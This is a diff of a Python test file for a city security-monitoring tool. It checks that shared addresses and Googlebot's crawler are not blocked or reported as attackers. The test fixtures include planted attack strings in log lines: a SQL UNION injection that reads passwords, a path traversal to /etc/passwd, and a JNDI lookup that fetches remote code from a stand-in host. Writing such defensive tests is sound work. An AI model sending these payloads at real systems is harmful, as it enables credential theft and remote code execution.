@@ -1,4 +1,5 @@
-"""An address many people share is never blocked, whatever else its incident holds.
+"""An address whose block would hurt the city more than the attacker is never blocked, nor
+given to partners as an attacker's, whatever else its incident holds.
 
 A university's address on a filing deadline: 141 people log in through it, nine of them
 failing three times (login abuse judges it shared: "do not block"), and one student sends
@@ -6,6 +7,10 @@ a UNION injection from the same address. The two detections made one incident at
 first measure was "Rate-limit or block the flagged client addresses" and whose playbook
 (contain-web-attack, from 60) blocked the address: every resident behind it locked out of
 the portal on the deadline. A stranger's injection in the same incident is still blocked.
+
+Google's crawler, fed planted links (an injection, a traversal, a JNDI lookup), made an
+incident at 90 whose block and shared intel took its address: the portal, and the public
+alerts on it, dropped from Google's search on an attacker's schedule.
 """
 
 from __future__ import annotations
@@ -14,12 +19,13 @@ import random
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
+import msgspec
 from pydantic import SecretStr
 from tests.detect.portal.test_slow_logins import T0, _deadline
 
 from citywatch.app import analyse
 from citywatch.config import Settings
-from citywatch.model import SHARED_ADDRESSES, Detection, Incident, IncidentStatus
+from citywatch.model import SPARED, Detection, Incident, IncidentStatus
 from citywatch.pipeline import InputSpec
 from citywatch.respond.actions import Context, block
 from citywatch.respond.blocks import block_entries
@@ -55,11 +61,13 @@ def test_the_university_s_address_is_never_blocked_for_one_student_s_injection(
     result = analyse(settings, [InputSpec.parse(f"access-log:{log}")], None, command="t")
     (incident,) = result.job.correlator.incidents()
     dets = result.job.detections()
-    shared = [d for d in dets if d.attributes["portal"].get(SHARED_ADDRESSES)]
+    shared = [d for d in dets if d.attributes["portal"].get(SPARED)]
     assert [d.detector for d in shared] == ["login-abuse"]
-    assert shared[0].attributes["portal"][SHARED_ADDRESSES] == [UNIVERSITY]
+    assert shared[0].attributes["portal"][SPARED] == {UNIVERSITY: "many people log in from it"}
     assert incident.severity >= 60 and {d.detector for d in dets} == {"login-abuse", "web-attacks"}
-    assert incident.measures[0].startswith(f"Do not block {UNIVERSITY}: many people share it")
+    assert incident.measures[0].startswith(
+        f"Do not block {UNIVERSITY} (many people log in from it), whatever the measures below say"
+    )
     books = [b.id for b in load_playbooks([]) if b.trigger.matches(incident)]
     assert "contain-web-attack" in books, "the SOC still hears of the injection"
     assert block_entries(incident, dets, now=datetime.now(UTC)) == []
@@ -76,8 +84,8 @@ def test_the_university_s_address_is_never_blocked_for_one_student_s_injection(
     )
     outcome = block(ctx)
     assert outcome.summary == (
-        f"no attacker address nor outside host to block; left out 1 address many people "
-        f"share ({UNIVERSITY})"
+        "no attacker address nor outside host to block; left out 1 no one should block "
+        f"({UNIVERSITY}: many people log in from it)"
     )
     assert outcome.files == []
     bundle = export_bundle(incident, dets)
@@ -107,7 +115,7 @@ def _detection(did: str, ip: str, **portal: object) -> Detection:
 
 def test_a_stranger_in_the_same_incident_is_still_blocked(tmp_path: Path) -> None:
     dets = [
-        _detection("logins", UNIVERSITY, **{SHARED_ADDRESSES: [UNIVERSITY]}),
+        _detection("logins", UNIVERSITY, **{SPARED: {UNIVERSITY: "many people log in from it"}}),
         _detection("student", UNIVERSITY),
         _detection("stranger", STRANGER),
     ]
@@ -136,6 +144,52 @@ def test_a_stranger_in_the_same_incident_is_still_blocked(tmp_path: Path) -> Non
         cap_sender="city@example.org",
     )
     assert block(ctx).summary == (
-        f"would block 1 address ({STRANGER}) for 1:00:00; left out 1 address many people "
-        f"share ({UNIVERSITY})"
+        f"would block 1 address ({STRANGER}) for 1:00:00; left out 1 no one should block "
+        f"({UNIVERSITY}: many people log in from it)"
     )
+
+
+GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+CRAWLER = "66.249.71.116"
+"""In Google's published Googlebot ranges."""
+PLANTED = (
+    "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+    "/docs?file=..%2F..%2F..%2Fetc%2Fpasswd",
+    "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2FExploit%7D",
+)
+
+
+def test_a_search_engine_s_crawler_fed_planted_links_is_never_blocked(tmp_path: Path) -> None:
+    lines = []
+    for k in range(30):  # its usual fetches, then the planted links, then more usual ones
+        target = PLANTED[k % 3] if 10 <= k < 16 else f"/news/{k}"
+        when = datetime.fromtimestamp(T0 + 60 * k, tz=UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
+        lines.append(f'{CRAWLER} - - [{when}] "GET {target} HTTP/1.1" 200 512 "-" "{GOOGLEBOT}"')
+    log = tmp_path / "access.log"
+    log.write_text("\n".join(lines) + "\n")
+    settings = Settings(data_dir=tmp_path / "data", pseudonym_key=SecretStr("5a" * 32))
+    result = analyse(settings, [InputSpec.parse(f"access-log:{log}")], None, command="t")
+    (incident,) = result.job.correlator.incidents()
+    dets = result.job.detections()
+    assert incident.severity >= 60 and CRAWLER in incident.entities["source.ip"]
+    now = datetime.now(UTC)
+    assert block_entries(incident, dets, now=now) == []
+    ctx = Context(
+        incident=incident,
+        detections=dets,
+        params={},
+        now=now,
+        data_dir=tmp_path,
+        actor="t",
+        dry_run=True,
+        quarantine=QuarantineConfig(),
+        cap_sender="city@example.org",
+    )
+    assert block(ctx).summary == (
+        "no attacker address nor outside host to block; left out 1 no one should block "
+        f"({CRAWLER}: Googlebot, a search engine's crawler (by its operator's published ranges))"
+    )
+    assert CRAWLER not in export_bundle(incident, dets)
+    # a forger's address is no crawler's: blocked as any attacker's
+    forged = msgspec.structs.replace(incident, entities={"source.ip": ["203.0.113.66"]})
+    assert [e.address for e in block_entries(forged, [], now=now)] == ["203.0.113.66"]
